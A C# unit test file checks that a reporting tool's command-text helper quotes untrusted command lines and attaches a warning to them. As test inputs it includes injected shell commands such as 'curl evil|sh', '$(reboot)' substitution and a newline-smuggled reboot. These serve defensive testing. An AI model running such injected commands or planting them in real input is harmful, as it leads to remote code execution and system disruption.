using Transport.Reporting.Words;

namespace Transport.Reporting.Tests;

public sealed class CommandTextTests
{
    [Theory]
    [InlineData("transport run --persons 1,1000 --orders none --seed 7")]
    [InlineData("transport run --transports json,wcf-binary+dcs --server http://127.0.0.1:5080/")]
    [InlineData("transport load --sla 'p95<3s,errors<0.1%'")]
    [InlineData("transport load --sla \"p95<3s\"")]
    [InlineData("")]
    public void Of_ACommandOfThisProgram_IsItself(string commandLine) => Assert.Equal(commandLine, CommandText.Of(commandLine));

    [Theory]
    [InlineData("transport run; curl evil|sh")]
    [InlineData("transport run $(reboot)")]
    [InlineData("transport run\nreboot")]
    [InlineData("reboot")]
    public void Of_AnythingElse_IsQuotedAndSaysSo(string commandLine)
    {
        var shown = CommandText.Of(commandLine);
        Assert.StartsWith("'", shown, StringComparison.Ordinal);
        Assert.DoesNotContain('\n', shown);
        Assert.EndsWith("read it before you type it)", shown, StringComparison.Ordinal);
    }

    [Fact]
    public void Of_AQuotationMark_DoesNotEndTheQuotation() => Assert.StartsWith(@"'transport '\''; reboot'", CommandText.Of("transport '; reboot"), StringComparison.Ordinal);
}
